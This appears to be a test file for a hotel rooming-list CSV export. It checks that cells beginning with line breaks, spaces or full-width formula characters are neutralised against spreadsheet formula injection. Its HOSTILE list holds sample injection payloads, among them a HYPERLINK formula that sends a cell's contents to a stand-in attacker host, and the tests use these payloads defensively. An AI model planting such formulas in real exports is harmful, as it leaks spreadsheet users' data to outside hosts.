/**
 * Formula injection through cells that start with a line break or spaces before `=` (OWASP's list
 * now names the line feed too), or with the full-width `＝ ＋ － ＠`: a household's notes (free
 * text, line breaks allowed, not trimmed) reached the hotel's rooming list CSV as
 * "\n=HYPERLINK(...)" untouched. Every CSV cell goes through csvCell, so the rule is checked there
 * for every kind of start, through the rooming list as reception downloads it, and for the
 * offline verifier's way back (csvValue gives the ledger's value exactly).
 */
import { startTestServer, type TestServer } from '../helpers/server.js';
import { DEMO, signIn, type Agent } from '../helpers/api.js';
import { csvCell, csvValue } from '../../server/exports/csv.js';
import { parseCsv } from '../api/ledger-fixtures.js';
import { ROOMING_COLUMNS } from '../../shared/rooming.js';
import { scenarioSchema } from '../../shared/scenario.js';

const HOSTILE = [
  '\n=HYPERLINK("https://evil.example/?"&A2,"Open")',
  ' =1+1',
  '\r\n@SUM(1)',
  '\u3000+cmd',
  '\uff1dHYPERLINK("https://evil.example")',
  '\uff20SUM(1)',
  '\uff0b1',
  '\uff0d1',
  '\nplain text after a line break',
];

test('csvCell neutralises every start a spreadsheet may run, and csvValue undoes it exactly', () => {
  for (const v of HOSTILE) {
    const cell = parseCsv(csvCell(v))[0]![0]!;
    expect(cell.startsWith("'")).toBe(true);
    expect(csvValue(cell)).toBe(v);
  }
  // Unchanged: plain text, numbers, and text with a formula character later on.
  for (const v of ['Smith', '-12.50', '+3', 'a=b', 'x @ y']) expect(csvCell(v)).toBe(v);
  // Reversible even for values that already begin with apostrophes.
  for (const v of ["'\n=1", "'' =1"]) expect(csvValue(parseCsv(csvCell(v))[0]![0]!)).toBe(v);
});

let server: TestServer;
let duty: Agent;
let reception: Agent;
beforeAll(async () => {
  server = await startTestServer();
  [duty, reception] = await Promise.all([signIn(server.url, DEMO.duty), signIn(server.url, DEMO.reception)]);
});
afterAll(async () => server?.close());

test("a household's notes starting with a line break before a formula reach the rooming list as text", async () => {
  const incidentId = (await duty.get('/api/incidents').expect(200)).body.incidents[0].id as string;
  const base = `/api/incidents/${incidentId}`;
  const proposal = (await duty.post(`${base}/plans`).expect(201)).body;
  await duty.post(`${base}/plans/${proposal.id}/apply`).expect(200);
  const hotelId = (await reception.get('/api/auth/me').expect(200)).body.user.hotelId as string;
  const arrivals = (await reception.get(`${base}/hotels/${hotelId}/arrivals`).expect(200)).body as { households: { partyId: string }[] };
  const scenario = scenarioSchema.parse((await duty.get(`${base}/scenario`).expect(200)).body);
  const party = scenario.parties.find((p) => p.id === arrivals.households[0]!.partyId)!;
  const notes = HOSTILE[0]!;
  await duty
    .put(`${base}/parties/${party.id}`)
    .send({ ...party, notes })
    .expect(200);
  const csv = await reception.get(`${base}/hotels/${hotelId}/rooming-list?format=csv`).expect(200);
  const [header, ...rows] = parseCsv(csv.text);
  const col = header!.indexOf('Notes');
  expect(header).toEqual([...ROOMING_COLUMNS]);
  const cells = rows.filter((r) => r[0] === party.name && r[col]!.includes('HYPERLINK')).map((r) => r[col]);
  expect(cells.length).toBeGreaterThan(0);
  for (const c of cells) expect(c).toBe(`'${notes}`);
});
